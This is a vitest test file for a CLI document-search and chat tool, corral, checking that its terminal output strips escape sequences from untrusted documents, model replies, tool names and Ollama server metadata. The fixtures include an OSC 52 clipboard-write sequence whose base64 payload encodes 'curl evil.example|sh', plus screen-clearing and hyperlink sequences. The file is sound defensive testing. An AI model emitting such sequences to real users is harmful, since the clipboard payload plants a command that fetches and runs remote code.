import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { startFakeOllama } from "@corral/testkit";
import { beforeAll, describe, expect, it } from "vitest";
import { useCliWorkspace } from "./test-support/cli-workspace.js";
import { InProcessCli, runInProcess } from "./test-support/in-process-cli.js";

const workspace = useCliWorkspace({ writeDocs: false });
// Colours on, as on a terminal: corral's own colour codes must survive.
const env = () => ({ ...workspace.env(), NO_COLOR: undefined, FORCE_COLOR: "1" });

const ESC = "\u001b";
const BEL = "\u0007";
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}`;
const hostile = [
  OSC52,
  `${ESC}[2J`,
  `${ESC}[?1049h`,
  `${ESC}[38;5;196m`,
  `${ESC}P1$r${ESC}\\`,
  "\u009b6n",
  "\b\b\b",
  `${ESC}]8;;https://evil.example${ESC}\\`,
];
const evilName = `evil${ESC}]52;c;aGk=${BEL}.md`;

/** What is left after removing corral's own colour codes (picocolors: ESC [ n m with one number). */
function withoutOwnColours(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is checked
  return text.replace(/\u001b\[\d{1,2}m/g, "");
}

function expectInert(text: string): void {
  expect(text).not.toContain(`${ESC}]`);
  expect(text).not.toContain(`${ESC}P`);
  expect(text).not.toContain(`${ESC}[2J`);
  expect(text).not.toContain(`${ESC}[38;5;196m`);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is checked
  expect(withoutOwnColours(text)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
}

beforeAll(async () => {
  const docs = path.join(workspace.dir, "docs");
  await mkdir(docs, { recursive: true });
  await writeFile(
    path.join(docs, "clipboard.md"),
    `# Clipboard ${hostile[1]}heading\n\nThe clipboard ${hostile.join(" ")} trick hides in documents about clipboard safety.\n`,
  );
  await writeFile(path.join(docs, evilName), "# Named\n\nA file whose name writes the clipboard, about clipboard names.\n");
  const index = await runInProcess(["index", "docs"], { cwd: workspace.dir, env: env() });
  expect(index.code, index.stderr).toBe(0);
});

describe("terminal output is inert", () => {
  it("corral search: passages and file names lose their escape sequences, corral's colours stay", async () => {
    const result = await runInProcess(["search", "clipboard", "-k", "5"], { cwd: workspace.dir, env: env() });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain("The clipboard");
    expect(result.stdout).toContain("docs/evil.md");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is checked
    expect(result.stdout).toMatch(/\u001b\[36m/); // cyan paths: corral's own colour
    expectInert(result.stdout);
    expectInert(result.stderr);

    const json = await runInProcess(["search", "clipboard", "--json"], { cwd: workspace.dir, env: env() });
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toContain("\u009b");
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain("\\u001b]52");
  });

  it("corral ask: streamed text, thinking, tool activity, tool errors and sources are inert", async () => {
    workspace.fake.enqueue(
      {
        thinking: `Thinking ${OSC52} hard ${ESC}[2J`,
        chunkSize: 3,
        toolCalls: [
          { name: "search_docs", arguments: { query: `clipboard ${OSC52}` } },
          { name: `evil${ESC}[2Jtool`, arguments: {} },
        ],
      },
      { content: `The answer ${OSC52}is here ${ESC}[?1049h${ESC}[38;5;196mred\rover [1].`, chunkSize: 3 },
    );
    const result = await runInProcess(["ask", "--show-thinking", "What about the clipboard?"], { cwd: workspace.dir, env: env() });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain("The answer is here red\nover [1].");
    expect(withoutOwnColours(result.stderr)).toContain("Thinking  hard");
    expect(result.stderr).toMatch(/searching docs: clipboard/);
    expect(result.stderr).toMatch(/calling eviltool/);
    expect(result.stdout).toMatch(/Sources: .*docs\//);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is checked
    expect(result.stderr).toMatch(/\u001b\[2m/); // dim activity lines: corral's own colour
    expectInert(result.stdout);
    expectInert(result.stderr);
  });

  it("corral chat: the streamed answer and /sources are inert", async () => {
    const chat = new InProcessCli(["chat"], { cwd: workspace.dir, env: env() });
    await chat.waitFor("Session", "stderr");
    workspace.fake.enqueue(
      { toolCalls: [{ name: "search_docs", arguments: { query: "clipboard" } }] },
      { content: `Chat ${OSC52}answer [1].`, chunkSize: 2 },
    );
    chat.send("clipboard?");
    let at = await chat.waitFor("Chat answer [1].");
    chat.send("/sources");
    at = await chat.waitFor(/\[1\]/, "stdout", at);
    await chat.waitFor("clipboard", "stdout", at);
    chat.send("/exit");
    const exit = await chat.exited;
    expect(exit.code, exit.stderr).toBe(0);
    expectInert(exit.stdout);
    expectInert(exit.stderr);
  });

  it("corral models: what an Ollama server reports (names, families, capabilities) is inert", async () => {
    const hostileOllama = await startFakeOllama({
      models: [{ name: "evil:1b", capabilities: ["completion", `tools${OSC52}`], family: `fam${ESC}[2Jily` }],
    });
    try {
      const ollama = { ...env(), OLLAMA_HOST: hostileOllama.url };
      const list = await runInProcess(["models"], { cwd: workspace.dir, env: ollama });
      expect(list.code, list.stderr).toBe(0);
      expect(list.stdout).toContain("completion, tools");
      expectInert(list.stdout);
      const show = await runInProcess(["models", "show", "evil:1b"], { cwd: workspace.dir, env: ollama });
      expect(show.code, show.stderr).toBe(0);
      expect(show.stdout).toContain("family");
      expect(show.stdout).toContain("fam");
      expectInert(show.stdout);
    } finally {
      await hostileOllama.close();
    }
  });

  it("errors quoting untrusted text are inert", async () => {
    const result = await runInProcess(["ask", "hi", "--docs", `missing${OSC52}dir`], { cwd: workspace.dir, env: env() });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/no such file or folder/);
    expectInert(result.stderr);
  });
});
